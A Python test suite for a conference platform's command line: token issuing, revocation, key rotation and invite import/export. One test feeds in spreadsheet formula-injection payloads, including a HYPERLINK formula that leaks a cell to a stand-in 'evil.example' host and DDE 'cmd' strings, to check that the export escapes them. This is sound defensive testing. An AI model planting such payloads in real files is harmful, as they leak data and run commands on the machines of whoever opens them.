"""The command line beside a running server: same keys, same database."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import jwt

from hybridcon.core.tokens import Role
from support import bearer, eventually, issue, services_of

HYBRIDCON = [sys.executable, "-m", "hybridcon.cli"]


def run_cli(
    settings, *args: str, check: bool = True, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    env = {
        **os.environ,
        "HYBRIDCON_DATA_DIR": str(settings.data_dir),
        "HYBRIDCON_DATABASE_URL": settings.database_url,
        "HYBRIDCON_PROGRAMME": str(settings.programme),
        **(env or {}),
    }
    result = subprocess.run(
        [*HYBRIDCON, *args],
        env=env,
        cwd=settings.data_dir.parent,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    if check:
        assert result.returncode == 0, result.stderr
    return result


async def test_cli_token_verifies_against_jwks_and_the_server_accepts_it(client, settings):
    out = run_cli(
        settings,
        "token",
        "issue",
        "--role",
        "moderator",
        "--scope",
        "stage:plenary",
        "--name",
        "Moderator Mia",
        "--ttl",
        "2h",
    ).stdout
    token = out.strip()
    assert token.count(".") == 2

    jwks = await (await client.get("/.well-known/jwks.json")).json()
    key = jwt.PyJWKSet.from_dict(jwks)[jwt.get_unverified_header(token)["kid"]].key
    claims = jwt.decode(
        token, key=key, algorithms=["EdDSA"], audience="hybridcon", issuer="hybridcon"
    )
    assert claims["role"] == "moderator"
    assert claims["scopes"] == ["stage:plenary"]
    assert claims["name"] == "Moderator Mia"
    assert claims["exp"] - claims["iat"] == 7200

    ws = await client.ws_connect("/ws")
    await ws.send_json({"type": "auth", "token": token})
    assert (await ws.receive_json(timeout=5))["type"] == "auth.ok"
    await ws.close()


async def test_cli_count_gives_each_token_its_own_person(client, settings):
    tokens = run_cli(settings, "token", "issue", "--role", "viewer", "--count", "5").stdout.split()
    subs = {jwt.decode(t, options={"verify_signature": False})["sub"] for t in tokens}
    assert len(tokens) == 5 and len(subs) == 5


async def test_cli_revocation_reaches_the_running_server(client, settings):
    token = issue(client, Role.ORGANISER)
    assert (await client.get("/api/v1/revocations", headers=bearer(token))).status == 200
    jti = jwt.decode(token, options={"verify_signature": False})["jti"]
    assert "revoked" in run_cli(settings, "token", "revoke", jti, "--reason", "lost").stdout

    async def refused() -> bool:
        resp = await client.get("/api/v1/revocations", headers=bearer(token))
        return resp.status == 401

    # The server learns of it by NOTIFY from another process: wait for that effect.
    await eventually(refused, what="the server refusing the revoked token")


async def test_key_rotation_keeps_old_tokens_valid_and_new_ones_accepted(client, settings):
    old = issue(client, Role.ORGANISER)
    out = run_cli(settings, "keys", "rotate").stdout
    assert "active" in out and "verifying" in out
    new = run_cli(settings, "token", "issue", "--role", "organiser").stdout.strip()
    assert jwt.get_unverified_header(new)["kid"] != jwt.get_unverified_header(old)["kid"]
    # The server picks up the new key on first sight of its kid, and still knows the old one.
    assert (await client.get("/api/v1/revocations", headers=bearer(new))).status == 200
    assert (await client.get("/api/v1/revocations", headers=bearer(old))).status == 200
    jwks = await (await client.get("/.well-known/jwks.json")).json()
    assert len(jwks["keys"]) == 2


def test_cli_bad_input_names_the_problem_and_exits_2(settings, tmp_path):
    settings.data_dir.mkdir(parents=True, exist_ok=True)
    result = run_cli(settings, "token", "issue", "--role", "admin", check=False)
    assert result.returncode == 2
    assert "unknown role 'admin'" in result.stderr
    result = run_cli(
        settings, "token", "issue", "--role", "viewer", "--scope", "stage:", check=False
    )
    assert result.returncode == 2 and "invalid scope" in result.stderr
    result = run_cli(
        settings, "token", "issue", "--role", "viewer", "--ttl", "2 weeks", check=False
    )
    assert result.returncode == 2 and "not a duration" in result.stderr
    result = run_cli(settings, "token", "issue", "--role", "viewer", "--ttl", "30d", check=False)
    assert result.returncode == 2
    assert "token lifetime 30 days is longer than the maximum 2 days" in result.stderr
    result = run_cli(
        settings, "token", "issue", "--role", "viewer", "--scope", "stage:mainstage", check=False
    )
    assert result.returncode == 2
    assert "stage 'mainstage', which is not in the programme" in result.stderr
    bad = tmp_path / "bad.toml"
    bad.write_text("[event]\nid = 'x'\n")
    result = run_cli(settings, "--help", check=False)
    assert result.returncode == 0


async def test_invites_import_export_and_redeem(client, settings, tmp_path):
    export = tmp_path / "tickets.csv"
    export.write_text(
        "ticket_id;first_name;last_name;email;role\n"
        "T-001;Ann;Peeters;ann@example.org;\n"
        "T-002;Bram;Janssens;bram@example.org;moderator\n"
        "T-003;Chloé;Maes;;\n",
        encoding="utf-8",
    )
    out = run_cli(settings, "invites", "import", str(export), "--valid-until", "2099-01-01").stdout
    assert out.startswith("3 invites created, 0 already present")
    again = run_cli(
        settings, "invites", "import", str(export), "--valid-until", "2099-01-01"
    ).stdout
    assert again.startswith("0 invites created, 3 already present")

    links_file = tmp_path / "links.csv"
    run_cli(
        settings,
        "invites",
        "export",
        "--out",
        str(links_file),
        "--base-url",
        "https://live.example.org",
    )
    rows = list(csv.DictReader(io.StringIO(links_file.read_text())))
    assert [r["ticket_id"] for r in rows] == ["T-001", "T-002", "T-003"]
    assert rows[2]["name"] == "Chloé Maes"
    assert rows[0]["link"] == f"https://live.example.org/join#code={rows[0]['code']}"

    resp = await client.post(
        "/api/v1/invites/redeem", json={"code": rows[1]["code"].lower().replace("-", " ")}
    )
    assert resp.status == 200, await resp.text()
    body = await resp.json()
    claims = services_of(client).auth().verify(body["token"])
    assert claims.role is Role.MODERATOR and claims.name == "Bram Janssens"
    audit = await (
        await client.get("/api/v1/audit", headers=bearer(issue(client, Role.ORGANISER)))
    ).json()
    assert "invites.export" in [e["action"] for e in audit["entries"]]


def test_invites_import_refuses_a_bad_file_whole(settings, tmp_path):
    export = tmp_path / "tickets.csv"
    export.write_text(
        "ticket_id,name,role\nT-1,Ann,viewer\nT-2,Bob,emperor\nT-3,Cas,viewer\n",
        encoding="utf-8",
    )
    result = run_cli(settings, "invites", "import", str(export), check=False)
    assert result.returncode == 2
    assert "line 3" in result.stderr and "emperor" in result.stderr
    # Nothing was half-written: the good rows before the bad one are not there either.
    good = tmp_path / "good.csv"
    good.write_text("ticket_id,name\nT-1,Ann\n", encoding="utf-8")
    result = run_cli(settings, "invites", "import", str(good), "--valid-until", "2099-01-01")
    assert result.stdout.startswith("1 invites created")
    missing = run_cli(settings, "invites", "import", str(tmp_path / "nope.csv"), check=False)
    assert missing.returncode == 2 and "cannot read" in missing.stderr
    binary = tmp_path / "latin1.csv"
    binary.write_bytes("ticket_id,name\nT-9,Zo\xeb\n".encode("latin-1"))
    result = run_cli(settings, "invites", "import", str(binary), check=False)
    assert result.returncode == 2 and "UTF-8" in result.stderr


def test_migrate_command_is_idempotent(settings):
    assert "up to date" in run_cli(settings, "migrate").stdout
    assert "up to date" in run_cli(settings, "migrate").stdout


def test_a_bad_programme_stops_serve_with_a_clear_message(settings, tmp_path):
    bad = tmp_path / "bad.toml"
    bad.write_text(
        "[event]\nid='x'\ntitle='X'\ndate=2022-05-05\nvenue='V'\n"
        "[[sessions]]\nid='a'\ntitle='A'\nkind='plenary'\nstart=10:00:00\nend=09:00:00\n"
    )
    result = run_cli(settings, "serve", "--config", str(bad), "--port", "0", check=False)
    assert result.returncode == 2
    assert "session 'a' ends" in result.stderr
    assert Path(bad).name in result.stderr


def test_invites_import_refuses_a_validity_that_has_passed(settings, tmp_path):
    export = tmp_path / "tickets.csv"
    export.write_text("ticket_id,name\nT-1,Ann\nT-2,Bob\n", encoding="utf-8")
    # The 2022 programme has ended: the default validity (its end plus two days) has passed.
    result = run_cli(settings, "invites", "import", str(export), check=False)
    assert result.returncode == 2
    assert "would expire at 2022-05-07" in result.stderr
    assert "which has passed; give --valid-until a later date" in result.stderr
    assert "nothing was imported" in result.stderr
    result = run_cli(
        settings, "invites", "import", str(export), "--valid-until", "2023-01-01", check=False
    )
    assert result.returncode == 2 and "(--valid-until), which has passed" in result.stderr
    # Nothing was written by either: a valid import creates both.
    result = run_cli(settings, "invites", "import", str(export), "--valid-until", "2099-01-01")
    assert result.stdout.startswith("2 invites created, 0 already present")


def test_invites_import_refuses_scopes_outside_the_programme(settings, tmp_path):
    export = tmp_path / "tickets.csv"
    export.write_text(
        "ticket_id,name,scopes\nT-1,Ann,stage:plenary\nT-2,Bob,stage:mainstage\n",
        encoding="utf-8",
    )
    result = run_cli(
        settings, "invites", "import", str(export), "--valid-until", "2099-01-01", check=False
    )
    assert result.returncode == 2
    assert "line 3: scope 'stage:mainstage' names stage 'mainstage'" in result.stderr


def test_invites_export_is_safe_to_open_in_a_spreadsheet(settings, tmp_path):
    export = tmp_path / "tickets.csv"
    rows = [
        ("T-1", '=HYPERLINK("https://evil.example/?leak="&A1;"Klik")', "ann@example.org"),
        ("T-2", "+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0@evil.example"),
        ("T-3", "@SUM(1+1)*cmd|' /C calc'!A0", ""),
        ("-T4", "-2+3", "@evil@example.org"),
        ("T-5", "Chloé Maes", "chloe@example.org"),
    ]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["ticket_id", "name", "email"])
    writer.writerows(rows)
    export.write_text(out.getvalue(), encoding="utf-8")
    run_cli(settings, "invites", "import", str(export), "--valid-until", "2099-01-01")
    links = tmp_path / "links.csv"
    run_cli(
        settings, "invites", "export", "--out", str(links), "--base-url", "https://live.example.org"
    )
    exported = {r["name"].lstrip("'"): r for r in csv.DictReader(io.StringIO(links.read_text()))}
    for ticket_id, name, email in rows:
        row = exported[name]
        for cell, original in (
            (row["ticket_id"], ticket_id),
            (row["name"], name),
            (row["email"], email),
        ):
            assert cell in {original, "'" + original}
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert exported["Chloé Maes"]["name"] == "Chloé Maes"  # ordinary text is left alone
    assert exported["-2+3"]["ticket_id"] == "'-T4"


def test_invites_export_links_follow_the_public_url_and_carry_the_code_in_the_fragment(
    settings, tmp_path
):
    export = tmp_path / "tickets.csv"
    export.write_text("ticket_id,name\nT-1,Ann\n", encoding="utf-8")
    run_cli(settings, "invites", "import", str(export), "--valid-until", "2099-01-01")
    # Without a public address the links would point at this machine's localhost:8080.
    result = run_cli(settings, "invites", "export", check=False)
    assert result.returncode == 2
    assert "set HYBRIDCON_PUBLIC_URL" in result.stderr and "--base-url" in result.stderr
    out = run_cli(
        settings,
        "invites",
        "export",
        env={"HYBRIDCON_PUBLIC_URL": "https://live.example.org/swc/"},
    ).stdout
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["link"] == f"https://live.example.org/swc/join#code={row['code']}"
    assert "?" not in row["link"]


async def test_token_revoke_says_when_it_is_not_given_a_token_id(client, settings):
    result = run_cli(settings, "token", "revoke", "somebody", check=False)
    assert result.returncode == 2
    assert "'somebody' is not a token id" in result.stderr
    assert "nothing was revoked" in result.stderr
    revocations = await (
        await client.get("/api/v1/revocations", headers=bearer(issue(client, Role.ORGANISER)))
    ).json()
    assert revocations["revocations"] == []
    # A whole token is taken for its jti.
    token = issue(client, Role.VIEWER)
    jti = jwt.decode(token, options={"verify_signature": False})["jti"]
    result = run_cli(settings, "token", "revoke", token)
    assert result.stdout.strip() == f"revoked {jti}"
    assert run_cli(settings, "token", "revoke", jti).stdout.strip() == f"{jti} was already revoked"
